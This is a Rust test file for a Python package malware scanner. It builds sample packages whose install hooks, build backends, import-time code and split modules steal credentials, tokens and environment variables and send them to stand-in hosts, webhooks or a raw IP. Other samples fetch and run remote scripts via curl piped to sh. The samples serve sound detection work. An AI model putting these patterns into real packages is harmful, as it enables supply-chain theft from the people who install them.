//! Cross-file context end to end: code that another file of the package runs while installing
//! or importing takes that file's context. Packages are written to a temporary directory.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
#![allow(clippy::indexing_slicing)]

use std::path::Path;

use assert_cmd::Command;
use serde_json::Value;

fn write_package(root: &Path, files: &[(&str, &str)]) {
    for (path, text) in files {
        let path = root.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
}

fn scan(root: &Path) -> Value {
    let output = Command::new(env!("CARGO_BIN_EXE_wheelhound"))
        .args(["scan", "--format", "jsonl", "--fail-on", "never"])
        .arg(root)
        .output()
        .unwrap();
    serde_json::from_slice(&output.stdout).unwrap()
}

/// `field` of every evidence item of the reported file whose path ends with `suffix`.
fn evidence_field(report: &Value, suffix: &str, field: &str) -> Vec<String> {
    let file = report["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"].as_str().unwrap().ends_with(suffix))
        .unwrap_or_else(|| panic!("no reported file ends with {suffix}: {report}"));
    file["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e[field].as_str().unwrap().to_owned())
        .collect()
}

const SENDER: &str = "import socket, requests\n\ndef send(url):\n    host = socket.gethostname()\n    requests.post(url, json={'h': host})\n\ndef main():\n    send('https://example.invalid/collect')\n\nif __name__ == '__main__':\n    main()\n";

#[test]
fn module_run_with_python_m_from_an_install_hook_runs_at_install() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg-0.1");
    write_package(
        &root,
        &[
            (
                "setup.py",
                "import sys, subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Hook(install):\n    def run(self):\n        install.run(self)\n        subprocess.run([sys.executable, '-m', 'pkg.report'])\n\nsetup(name='pkg', cmdclass={'install': Hook})\n",
            ),
            ("pkg/__init__.py", ""),
            ("pkg/report.py", SENDER),
        ],
    );
    let report = scan(&root);
    let contexts = evidence_field(&report, "pkg/report.py", "context");
    assert!(contexts.iter().any(|c| c == "install"), "{contexts:?}");
}

#[test]
fn the_same_module_alone_runs_when_called() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg-0.1");
    write_package(
        &root,
        &[
            (
                "setup.py",
                "from setuptools import setup\nsetup(name='pkg')\n",
            ),
            ("pkg/__init__.py", ""),
            ("pkg/report.py", SENDER),
        ],
    );
    let report = scan(&root);
    for file in report["files"].as_array().unwrap() {
        for evidence in file["evidence"].as_array().unwrap() {
            assert_ne!(evidence["context"], "install", "{evidence}");
        }
    }
}

#[test]
fn helper_called_from_an_install_command_runs_at_install() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg-0.1");
    write_package(
        &root,
        &[
            (
                "setup.py",
                "from setuptools import setup\nfrom setuptools.command.install import install\nfrom pre_install import pre_install\n\nclass Hook(install):\n    def run(self):\n        pre_install()\n        install.run(self)\n\nsetup(name='pkg', cmdclass={'install': Hook})\n",
            ),
            (
                "pre_install.py",
                "import subprocess\n\ndef pre_install():\n    subprocess.run('curl -d \"$(whoami)\" https://example.invalid', shell=True)\n",
            ),
        ],
    );
    let report = scan(&root);
    assert_eq!(report["verdict"], "malicious", "{report}");
    let top = &report["files"][0];
    assert!(top["path"].as_str().unwrap().ends_with("pre_install.py"));
}

/// A CPython 3.11 `.pyc` of `import os\nos.system("curl x|sh")`, written for this test.
fn pyc() -> Vec<u8> {
    let hex = "630000000000000000000000000300000000000000f32e0000009700640064016c005a00020065006a0100000000000000006402a6010000ab0100000000000000000100640153002903e9000000004e7a096375726c20787c73682902da026f73da0673797374656da900f300000000da0166fa083c6d6f64756c653e7207000000010000007326000000f003010101d80009800980098009d8000980028409882bd10016d40016d00016d00016d000167205000000";
    let mut data = vec![0xa7, 0x0d, b'\r', b'\n'];
    data.extend([0u8; 12]);
    data.extend(
        hex.as_bytes()
            .chunks(2)
            .map(|pair| u8::from_str_radix(std::str::from_utf8(pair).unwrap(), 16).unwrap()),
    );
    data
}

#[test]
fn pyc_without_source_counts_and_beside_source_does_not() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg-0.1");
    write_package(&root, &[("pkg/__init__.py", "")]);
    std::fs::create_dir_all(root.join("pkg/__pycache__")).unwrap();
    std::fs::write(root.join("pkg/__pycache__/__init__.cpython-311.pyc"), pyc()).unwrap();
    std::fs::write(root.join("pkg/__pycache__/tool.cpython-311.pyc"), pyc()).unwrap();
    let report = scan(&root);
    let files = report["files"].as_array().unwrap();
    let bytecode_only = |name: &str| {
        let file = files
            .iter()
            .find(|f| f["path"].as_str().unwrap().ends_with(name))
            .unwrap();
        file["evidence"].as_array().unwrap().iter().any(|e| {
            e["message"]
                .as_str()
                .unwrap()
                .contains("without the source")
        })
    };
    assert!(bytecode_only("tool.cpython-311.pyc"));
    assert!(!bytecode_only("__init__.cpython-311.pyc"));
    assert_eq!(report["verdict"], "malicious");
}

/// The ttlo pattern: the address is base64 in one module, the decoder beside it, and the
/// request in a third file that star-imports them; no single file folds to anything.
const SPLIT_SENDER: [(&str, &str); 4] = [
    (
        "setup.py",
        "from setuptools import setup\nsetup(name='tt', packages=['tt'])\n",
    ),
    ("tt/__init__.py", "from tt.send import *\n\nsend()\n"),
    (
        "tt/b.py",
        "import base64 as ba\n\n\ndef b(s):\n    return ba.b64decode(s).decode()\n\n\na = 'aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDEyMzQ1Njc4OTA6QUFGMVcwalJ0a0RubkdCbFlBbWJDSXpVdTJxRGRUY19ibTQvc2VuZE1lc3NhZ2U='\n",
    ),
    (
        "tt/send.py",
        "from tt.b import *\nimport requests as r\nimport socket\n\n\ndef send():\n    r.post(b(a), data={'text': socket.gethostname()})\n",
    ),
];

#[test]
fn values_imported_from_a_sibling_module_fold_in_the_importer() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("tt-1.0");
    write_package(&root, &SPLIT_SENDER);
    let report = scan(&root);
    let messages = evidence_field(&report, "tt/send.py", "message");
    assert!(
        messages
            .iter()
            .any(|m| m.contains("api.telegram.org") && m.contains("hidden")),
        "{messages:?}"
    );
    assert_eq!(report["verdict"], "malicious", "{report}");
}

#[test]
fn a_named_import_of_a_decoder_brings_the_aliases_it_uses() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("tt-1.0");
    let mut files = SPLIT_SENDER;
    files[3].1 = "from tt.b import b, a\nimport requests as r\nimport socket\n\n\ndef send():\n    r.post(b(a), data={'text': socket.gethostname()})\n";
    write_package(&root, &files);
    let report = scan(&root);
    assert_eq!(report["verdict"], "malicious", "{report}");
}

#[test]
fn ordinary_constants_from_a_sibling_change_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("lib-1.0");
    write_package(
        &root,
        &[
            (
                "setup.py",
                "from setuptools import setup\nsetup(name='lib')\n",
            ),
            ("lib/__init__.py", "from lib.client import Client\n"),
            (
                "lib/const.py",
                "API_URL = 'https://api.example.invalid/v1'\nTIMEOUT = 30\nUSER_AGENT = 'lib/1.0'\n",
            ),
            (
                "lib/client.py",
                "import requests\nfrom lib.const import *\n\n\nclass Client:\n    def get(self, path):\n        return requests.get(API_URL + path, timeout=TIMEOUT)\n",
            ),
        ],
    );
    let report = scan(&root);
    assert_eq!(report["verdict"], "benign", "{report}");
}

#[test]
fn character_codes_re_exported_by_a_package_init_fold_in_the_importer() {
    // locute: the codes live in `sub/headers.py`, `sub/__init__.py` re-exports them, and the
    // importer spells `chr` and the codes' meaning at run time.
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pk-1.0");
    let codes: Vec<String> = "curl https://pastebin.com/raw/xyz | sh"
        .bytes()
        .map(|b| b.to_string())
        .collect();
    let headers = format!("P1 = [{}]\n", codes.join(", "));
    write_package(
        &root,
        &[
            ("pk/sub/headers.py", headers.as_str()),
            ("pk/sub/__init__.py", "from .headers import P1\n"),
            (
                "pk/__init__.py",
                "from .sub import P1 as PP\nimport os\n_ = ''.join\nos.system(_([chr(x) for x in PP[:(1 << 5) + (1 << 3) - 2]]))\n",
            ),
        ],
    );
    let report = scan(&root);
    let messages = evidence_field(&report, "pk/__init__.py", "message");
    assert!(
        messages
            .iter()
            .any(|m| m.contains("pastebin.com/raw/xyz | sh")),
        "{messages:?}"
    );
    assert_eq!(report["verdict"], "malicious", "{report}");
}

const DROPPER: &str = "import subprocess\nfrom urllib import request\n\ndef run_it():\n    request.urlretrieve('https://drop.example.invalid/stage.py', '/tmp/stage.py')\n    subprocess.call('python3 /tmp/stage.py', shell=True)\n\nrun_it()\n";

#[test]
fn a_package_whose_only_code_sits_in_an_example_folder_ships_that_code() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("crypter-1.0");
    write_package(
        &root,
        &[
            (
                "setup.py",
                "from setuptools import setup\nsetup(name='crypter')\n",
            ),
            ("src/pyobf/__init__.py", ""),
            ("src/pyobf/example/__init__.py", ""),
            ("src/pyobf/example/encryptor.py", DROPPER),
        ],
    );
    let contexts = evidence_field(&scan(&root), "encryptor.py", "context");
    assert!(contexts.iter().all(|c| c != "test_or_docs"), "{contexts:?}");

    // Beside real shipped code, the example stays an example.
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("crypter-1.0");
    write_package(
        &root,
        &[
            (
                "setup.py",
                "from setuptools import setup\nsetup(name='crypter')\n",
            ),
            (
                "src/pyobf/__init__.py",
                "def obfuscate(text):\n    return text[::-1]\n",
            ),
            ("src/pyobf/example/encryptor.py", DROPPER),
        ],
    );
    let contexts = evidence_field(&scan(&root), "encryptor.py", "context");
    assert!(contexts.iter().all(|c| c == "test_or_docs"), "{contexts:?}");
}

#[test]
fn an_in_tree_build_backend_runs_at_install_time() {
    let backend = "import os, socket, json, urllib.request\n\ndef _beacon():\n    data = json.dumps({'h': socket.gethostname()}).encode()\n    urllib.request.urlopen(urllib.request.Request('https://c.example.invalid/b', data=data))\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    _beacon()\n    return 'x-1.0-py3-none-any.whl'\n";
    for folder in ["_build", "tools"] {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("x-1.0");
        let pyproject = format!(
            "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"{folder}\"]\n"
        );
        let module = format!("{folder}/backend.py");
        write_package(
            &root,
            &[
                ("pyproject.toml", pyproject.as_str()),
                (module.as_str(), backend),
                ("x/__init__.py", ""),
            ],
        );
        let report = scan(&root);
        let contexts = evidence_field(&report, "backend.py", "context");
        assert!(
            contexts.iter().any(|c| c == "install"),
            "{folder}: {contexts:?}"
        );
        assert_eq!(report["verdict"], "malicious", "{folder}: {report}");
    }
    // The same module without pyproject.toml naming it is ordinary run-time code.
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("x-1.0");
    write_package(
        &root,
        &[("_build/backend.py", backend), ("x/__init__.py", "")],
    );
    let contexts = evidence_field(&scan(&root), "backend.py", "context");
    assert!(contexts.iter().all(|c| c != "install"), "{contexts:?}");
}

#[test]
fn a_data_file_the_package_executes_is_read_as_code_where_it_runs() {
    let runner =
        "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'settings.dat')).read())\n";
    let payload = "import os, requests\nrequests.post('https://discord.com/api/webhooks/1/x', json={'c': str(dict(os.environ))})\n";
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("x-1.0");
    write_package(
        &root,
        &[("x/__init__.py", runner), ("x/settings.dat", payload)],
    );
    let report = scan(&root);
    assert_eq!(report["verdict"], "malicious", "{report}");
    let paths = evidence_field(&report, "x/__init__.py", "path");
    assert!(paths.iter().any(|p| p.contains("#layer")), "{paths:?}");
    // The same idiom on a version file is how setup scripts read `__version__`.
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("y-1.0");
    write_package(
        &root,
        &[
            (
                "setup.py",
                "from setuptools import setup\nexec(open('VERSION.txt').read())\nsetup(name='y', version=__version__)\n",
            ),
            ("VERSION.txt", "__version__ = '1.0'\n"),
        ],
    );
    assert_eq!(scan(&root)["verdict"], "benign");
}

#[test]
fn code_reached_through_a_thread_a_method_and_a_third_module_runs_at_import() {
    // `__init__` starts `_sync.run` in a thread; `run` calls a method of a class from `_gh`
    // through an instance. Each hop is found in its own round of the cross-file look.
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("chain-0.1");
    write_package(
        &root,
        &[
            (
                "chain/__init__.py",
                "import threading\nfrom . import _sync\nthreading.Thread(target=_sync.run, daemon=True).start()\n",
            ),
            (
                "chain/_sync.py",
                "import os\nfrom ._gh import GitHub\n\ndef run():\n    token = open(os.path.expanduser('~/.config/gh/hosts.yml')).read()\n    gh = GitHub(token)\n    gh.call('/user/repos')\n",
            ),
            (
                "chain/_gh.py",
                "import urllib.request\n\nclass GitHub:\n    def __init__(self, token):\n        self.token = token\n\n    def call(self, path):\n        req = urllib.request.Request('https://api.example.invalid' + path, data=self.token.encode())\n        return urllib.request.urlopen(req).read()\n",
            ),
        ],
    );
    let report = scan(&root);
    let contexts = evidence_field(&report, "chain/_gh.py", "context");
    assert!(contexts.iter().any(|c| c == "import"), "{report}");
    let contexts = evidence_field(&report, "chain/_sync.py", "context");
    assert!(contexts.iter().any(|c| c == "import"), "{report}");
    // The read in one module and the send in another, both while loading, are one theft.
    assert_eq!(report["verdict"], "malicious", "{report}");
    let moves = report["score_moves"].to_string();
    assert!(
        moves.contains("combo:steal-and-send-across-files"),
        "{report}"
    );
}

#[test]
fn a_method_of_an_imported_class_called_at_import_runs_at_import() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("probe-0.1");
    write_package(
        &root,
        &[
            (
                "probe/__init__.py",
                "from .check import Probe\nProbe().announce()\n",
            ),
            (
                "probe/check.py",
                "import requests\n\nclass Probe:\n    def announce(self):\n        requests.post('https://status.example.invalid/ping', data={'v': 1})\n\n    def rank(self):\n        requests.head('https://pypi.org/simple/')\n",
            ),
        ],
    );
    let report = scan(&root);
    let messages = evidence_field(&report, "probe/check.py", "message");
    assert!(
        messages
            .iter()
            .any(|m| m.contains("requests.post") && m.ends_with("at import time")),
        "{report}"
    );
    // A method nobody calls while loading stays a run-time call.
    assert!(
        messages
            .iter()
            .any(|m| m.contains("requests.head") && m.ends_with("when called")),
        "{report}"
    );
}

#[test]
fn pdm_backends_local_build_hook_runs_at_install() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("crc-0.1");
    write_package(
        &root,
        &[
            (
                "pyproject.toml",
                "[build-system]\nrequires = ['pdm-backend']\nbuild-backend = 'pdm.backend'\n[project]\nname = 'crc'\nversion = '0.1'\n",
            ),
            (
                "pdm_build.py",
                "import subprocess\n\ndef pdm_build_initialize(context):\n    subprocess.run(['curl', '-s', 'https://x.example.invalid/a.sh', '-o', '/tmp/a.sh'])\n",
            ),
            ("src/crc/__init__.py", ""),
        ],
    );
    let report = scan(&root);
    let contexts = evidence_field(&report, "pdm_build.py", "context");
    assert!(contexts.iter().all(|c| c == "install"), "{report}");
}

/// The `flows` text of the reported file whose path ends with `suffix`.
fn flows_of(report: &Value, suffix: &str) -> String {
    report["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"].as_str().unwrap().ends_with(suffix))
        .map(|f| f["flows"].as_str().unwrap_or_default().to_owned())
        .unwrap_or_default()
}

#[test]
fn data_a_sibling_function_returns_flows_into_the_importers_send() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg-0.1");
    write_package(
        &root,
        &[
            (
                "pkg/facts.py",
                "import getpass, socket\n\ndef machine():\n    return {'u': getpass.getuser(), 'h': socket.gethostname()}\n",
            ),
            (
                "pkg/__init__.py",
                "import requests\nfrom .facts import machine\nrequests.post('https://collector.example.invalid/u', json=machine())\n",
            ),
        ],
    );
    let report = scan(&root);
    assert_eq!(report["verdict"], "malicious", "{report}");
    let flows = flows_of(&report, "pkg/__init__.py");
    assert!(flows.contains("returned by machine()"), "{flows}");
    assert!(flows.contains("pkg/facts.py:4"), "{flows}");
}

#[test]
fn data_a_sibling_module_holds_flows_into_the_importers_send() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg-0.1");
    write_package(
        &root,
        &[
            (
                "pkg/config.py",
                "import os\n\ndef _first(*names):\n    for n in names:\n        v = os.environ.get(n)\n        if v:\n            return v\n\nTOKEN = _first('GITHUB_TOKEN', 'GH_TOKEN')\n",
            ),
            (
                "pkg/__init__.py",
                "import requests\nfrom .config import TOKEN\nrequests.post('https://collector.example.invalid/u', json={'t': TOKEN})\n",
            ),
        ],
    );
    let report = scan(&root);
    assert_eq!(report["verdict"], "malicious", "{report}");
    let flows = flows_of(&report, "pkg/__init__.py");
    assert!(flows.contains("GITHUB_TOKEN"), "{flows}");
    assert!(flows.contains("imported as TOKEN"), "{flows}");
    assert!(flows.contains("pkg/config.py:5"), "{flows}");
}

#[test]
fn a_setting_a_sibling_module_holds_used_when_called_stays_benign() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg-0.1");
    write_package(
        &root,
        &[
            (
                "pkg/config.py",
                "import os\nDEBUG = os.environ.get('PKG_DEBUG')\nAPI_KEY = os.environ.get('OPENAI_API_KEY')\n",
            ),
            (
                "pkg/client.py",
                "import requests\nfrom .config import API_KEY, DEBUG\n\ndef complete(prompt):\n    return requests.post('https://api.openai.com/v1/completions', headers={'Authorization': f'Bearer {API_KEY}'}, json={'prompt': prompt, 'debug': DEBUG})\n",
            ),
        ],
    );
    let report = scan(&root);
    assert_eq!(report["verdict"], "benign", "{report}");
}

#[test]
fn data_passed_to_a_sibling_function_while_installing_flows_to_its_send() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg-0.1");
    write_package(
        &root,
        &[
            (
                "setup.py",
                "import os\nfrom setuptools import setup\nimport helper\nhelper.send(dict(os.environ))\nsetup(name='pkg')\n",
            ),
            (
                "helper.py",
                "import requests\n\ndef send(payload):\n    requests.post('https://collector.example.invalid/u', json=payload)\n",
            ),
        ],
    );
    let report = scan(&root);
    assert_eq!(report["verdict"], "malicious", "{report}");
    let flows = flows_of(&report, "helper.py");
    assert!(flows.contains("passed to send() at setup.py:4"), "{flows}");
}

#[test]
fn data_passed_to_a_sibling_function_that_only_keeps_it_is_no_flow() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg-0.1");
    write_package(
        &root,
        &[
            (
                "pkg/__init__.py",
                "import os\nfrom ._config import configure\nconfigure(os.environ.get('PKG_API_TOKEN'))\n",
            ),
            (
                "pkg/_config.py",
                "_settings = {}\n\ndef configure(token):\n    _settings['token'] = token\n",
            ),
        ],
    );
    let report = scan(&root);
    assert_eq!(report["verdict"], "benign", "{report}");
}

#[test]
fn a_function_of_the_same_name_in_another_sibling_receives_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg-0.1");
    write_package(
        &root,
        &[
            (
                "pkg/__init__.py",
                "import os\nfrom . import _config\nfrom . import _net\n_config.use(dict(os.environ))\n",
            ),
            (
                "pkg/_config.py",
                "def use(values):\n    return len(values)\n",
            ),
            (
                "pkg/_net.py",
                "import requests\n\ndef use(payload):\n    requests.post('https://collector.example.invalid/u', json=payload)\n",
            ),
        ],
    );
    let report = scan(&root);
    let flows = flows_of(&report, "pkg/_net.py");
    assert!(!flows.contains("passed to use()"), "{flows}");
}

#[test]
fn data_returned_through_an_imported_submodule_flows_into_the_send() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg-0.1");
    write_package(
        &root,
        &[
            (
                "pkg/facts.py",
                "import getpass, socket\n\ndef machine():\n    return {'u': getpass.getuser(), 'h': socket.gethostname()}\n",
            ),
            (
                "pkg/__init__.py",
                "import requests\nfrom . import facts\nrequests.post('https://collector.example.invalid/u', json=facts.machine())\n",
            ),
        ],
    );
    let report = scan(&root);
    assert_eq!(report["verdict"], "malicious", "{report}");
    assert!(flows_of(&report, "pkg/__init__.py").contains("returned by machine()"));
}

#[test]
fn a_sibling_returning_the_users_name_for_a_log_line_is_no_flow() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg-0.1");
    write_package(
        &root,
        &[
            (
                "pkg/_who.py",
                "import getpass\n\ndef user():\n    return getpass.getuser()\n",
            ),
            (
                "pkg/__init__.py",
                "import logging\nfrom . import _who\nlogging.getLogger(__name__).debug('loaded for %s', _who.user())\n",
            ),
        ],
    );
    let report = scan(&root);
    assert_eq!(report["verdict"], "benign", "{report}");
}

#[test]
fn data_a_method_of_an_imported_class_returns_flows_into_the_send() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg-0.1");
    write_package(
        &root,
        &[
            (
                "pkg/_grab.py",
                "import os\n\nclass Grabber:\n    def collect(self):\n        with open(os.path.expanduser('~/.aws/credentials')) as fh:\n            return fh.read()\n",
            ),
            (
                "pkg/__init__.py",
                "import requests\nfrom ._grab import Grabber\ng = Grabber()\nrequests.post('https://collector.example.invalid/u', data=g.collect())\n",
            ),
        ],
    );
    let report = scan(&root);
    assert_eq!(report["verdict"], "malicious", "{report}");
    let flows = flows_of(&report, "pkg/__init__.py");
    assert!(flows.contains("returned by Grabber().collect()"), "{flows}");
}

#[test]
fn a_helper_returning_what_one_caller_passed_is_no_source_for_the_others() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg-0.1");
    write_package(
        &root,
        &[
            (
                "pkg/utils.py",
                "def relative(path):\n    return path.lstrip('/')\n",
            ),
            (
                "pkg/__init__.py",
                "import os\nfrom .utils import relative\nHERE = relative(os.getcwd())\n",
            ),
            (
                "pkg/fetch.py",
                "import urllib.request\nfrom .utils import relative\n\ndef get(url):\n    return urllib.request.urlopen(relative(url)).read()\n",
            ),
        ],
    );
    let report = scan(&root);
    let flows = flows_of(&report, "pkg/fetch.py");
    assert!(!flows.contains("passed to relative()"), "{flows}");
}

#[test]
fn data_handed_to_a_method_of_an_imported_class_flows_into_its_send() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("pkg-0.1");
    write_package(
        &root,
        &[
            (
                "pkg/_walk.py",
                "import os\n_NAMES = ('.npmrc', '.pypirc')\n\ndef iter_configs(root='~'):\n    for here, dirs, files in os.walk(os.path.expanduser(root)):\n        for f in files:\n            if f in _NAMES:\n                with open(os.path.join(here, f), 'rb') as fh:\n                    yield f, fh.read()\n",
            ),
            (
                "pkg/_ship.py",
                "import socket\n\nclass Channel:\n    def __enter__(self):\n        self.sock = socket.create_connection(('203.0.113.27', 8443))\n        return self\n\n    def put(self, name, blob):\n        self.sock.sendall(blob)\n\n    def __exit__(self, *exc):\n        self.sock.close()\n",
            ),
            (
                "pkg/__init__.py",
                "from ._ship import Channel\nfrom ._walk import iter_configs\ntry:\n    with Channel() as ch:\n        for name, blob in iter_configs():\n            ch.put(name, blob)\nexcept Exception:\n    pass\n",
            ),
        ],
    );
    let report = scan(&root);
    assert_eq!(report["verdict"], "malicious", "{report}");
    let flows = flows_of(&report, "pkg/_ship.py");
    assert!(flows.contains("passed to put()"), "{flows}");
    assert!(flows.contains("at import time"), "{flows}");
}
